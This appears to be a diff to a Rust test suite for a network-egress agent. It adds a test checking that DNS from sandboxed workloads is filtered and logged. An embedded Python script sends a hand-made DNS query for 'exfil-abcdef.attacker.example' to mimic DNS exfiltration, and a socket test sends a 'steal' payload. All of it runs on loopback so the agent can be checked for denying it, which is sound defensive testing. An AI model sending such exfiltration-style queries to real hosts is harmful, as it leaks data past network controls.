@@ -58,7 +58,7 @@ fn a_stale_record_cannot_be_claimed_by_an_untagged_user() {
     // proxy is served as no one.
     for &sport in &sports {
         let script = format!(
-            "import socket\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('127.0.0.1',{}))\ns.settimeout(5)\ns.connect(('127.0.0.1',{}))\ntry:\n    s.sendall(b'steal')\n    print('got', s.recv(16))\nexcept OSError as e:\n    print('reset', e.errno)\n",
+            "import socket\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('127.0.0.1',{}))\ns.settimeout(5)\ntry:\n    s.connect(('127.0.0.1',{}))\n    s.sendall(b'steal')\n    print('got', s.recv(16))\nexcept OSError as e:\n    print('reset', e.errno)\n",
             sport,
             agent.port
         );
@@ -511,4 +511,166 @@ fn agent_must_exit(cfg: &std::path::Path) -> std::process::Output {
         std::thread::sleep(Duration::from_millis(50));
     }
     child.wait_with_output().unwrap()
+}
+
+/// A real DNS server (Debian's dnsmasq) on a loopback address, answering
+/// `name=address` pairs and nothing else; stopped on drop.
+struct Dnsmasq(std::process::Child);
+
+impl Dnsmasq {
+    fn start(listen: &str, records: &[(&str, &str)]) -> Dnsmasq {
+        let mut cmd = Command::new("/usr/sbin/dnsmasq");
+        cmd.args([
+            "--keep-in-foreground",
+            "--no-resolv",
+            "--no-hosts",
+            "--bind-interfaces",
+            "--port=53",
+            "--user=root",
+            "--pid-file",
+        ])
+        .arg(format!("--listen-address={listen}"));
+        for (name, addr) in records {
+            cmd.arg(format!("--host-record={name},{addr}"));
+        }
+        let child = cmd
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("dnsmasq (cargo xtask setup installs dnsmasq-base)");
+        // Ready when it answers on TCP.
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        while TcpStream::connect((listen, 53)).is_err() {
+            assert!(
+                std::time::Instant::now() < deadline,
+                "dnsmasq did not start"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Dnsmasq(child)
+    }
+}
+
+impl Drop for Dnsmasq {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A loop that resolves names with the system resolver (glibc, from a
+/// resolv.conf that names `RESOLVER`), then asks a resolver directly over
+/// UDP and TCP with hand-made queries.
+const DNS_LOOP: &str = r#"
+import socket, struct, sys
+def q(name, qid=0x4242):
+    h = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    return h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+def rcode(m): return m[3] & 0x0f
+out = []
+for name in sys.argv[2:]:
+    try:
+        out.append("%s=%s" % (name, socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]))
+    except socket.gaierror as e:
+        out.append("%s=fail" % name)
+res = sys.argv[1]
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(5)
+u.sendto(q("exfil-abcdef.attacker.example"), (res, 53))
+m, src = u.recvfrom(4096)
+out.append("udp-rcode=%d from=%s:%d" % (rcode(m), src[0], src[1]))
+t = socket.create_connection((res, 53), timeout=5)
+t.sendall(struct.pack(">H", len(q("db.internal"))) + q("db.internal"))
+n = struct.unpack(">H", t.recv(2))[0]
+m = t.recv(n)
+out.append("tcp-rcode=%d answer=%s" % (rcode(m), socket.inet_ntoa(m[-4:])))
+print(" ".join(out))
+"#;
+
+/// Finding 6: a tagged loop's DNS goes through the agent's resolver, which
+/// answers allowed names, refuses the rest and records every query.
+#[test]
+fn dns_of_tagged_loops_is_judged_answered_and_recorded() {
+    let _dns = Dnsmasq::start(
+        "127.10.9.30",
+        &[
+            ("db.internal", "127.10.9.31"),
+            ("api.corp.example", "127.10.9.32"),
+            ("exfil-abcdef.attacker.example", "127.10.9.99"),
+            ("leak.attacker.example", "127.10.9.99"),
+        ],
+    );
+    let agent = Agent::start(
+        AgentSpec::new("dns")
+            .egress("deny")
+            .agent_key("dns_allow = [\"db.internal\", \"*.corp.example\"]")
+            .agent_key("dns_upstreams = [\"127.10.9.30:53\"]"),
+    );
+    // The loop's own resolv.conf names a loopback address nobody serves:
+    // every query it makes must reach the agent to be answered at all.
+    let conf = agent.path("resolv.conf");
+    std::fs::write(
+        &conf,
+        "nameserver 127.10.9.33\noptions attempts:1 timeout:2\n",
+    )
+    .unwrap();
+    set_mode(&conf, 0o644);
+    let script = agent.path("dns-loop.py");
+    std::fs::write(&script, DNS_LOOP).unwrap();
+    set_mode(&script, 0o644);
+    let out = agent.exec(
+        "resolver-user",
+        &[
+            "unshare",
+            "-Urm",
+            "sh",
+            "-c",
+            &format!(
+                "mount --bind {} /etc/resolv.conf && /usr/bin/python3 {} 127.10.9.33 db.internal api.corp.example leak.attacker.example",
+                conf.display(),
+                script.display()
+            ),
+        ],
+    );
+    assert_eq!(
+        stdout(&out).trim(),
+        "db.internal=127.10.9.31 api.corp.example=127.10.9.32 leak.attacker.example=fail \
+         udp-rcode=5 from=127.10.9.33:53 tcp-rcode=0 answer=127.10.9.31",
+        "{}",
+        stderr(&out)
+    );
+    // Every query recorded under the loop's workload, with its verdict.
+    let s = agent.wait_sessions("DNS sessions", |s| {
+        s.iter()
+            .filter(|r| r["protocol"] == "dns" && r["workload"] == "resolver-user")
+            .count()
+            >= 4
+            && s.iter()
+                .any(|r| r["protocol"] == "dns" && r["bytes_up"].as_u64().unwrap_or(0) > 0)
+    });
+    let dns: Vec<&Value> = s.iter().filter(|r| r["protocol"] == "dns").collect();
+    let detail = |name: &str| {
+        dns.iter()
+            .find(|r| r["detail"].as_str().unwrap_or("").contains(name))
+            .unwrap_or_else(|| panic!("no DNS record for {name}: {dns:#?}"))
+    };
+    assert_eq!(detail("leak.attacker.example")["outcome"], "denied");
+    assert_eq!(detail("exfil-abcdef.attacker.example")["outcome"], "denied");
+    let ok = detail("A db.internal");
+    assert_eq!(ok["outcome"], "ok");
+    assert!(
+        ok["detail"].as_str().unwrap().contains("127.10.9.31"),
+        "{ok}"
+    );
+    // The TCP query is an event of its proxied session.
+    let tcp = dns
+        .iter()
+        .find(|r| r["bytes_up"].as_u64().unwrap_or(0) > 0)
+        .unwrap_or_else(|| panic!("no DNS-over-TCP session: {dns:#?}"));
+    let replay = replay_of(&agent, tcp);
+    assert!(
+        replay.contains("dns_query") && replay.contains("A db.internal"),
+        "{replay}"
+    );
 }
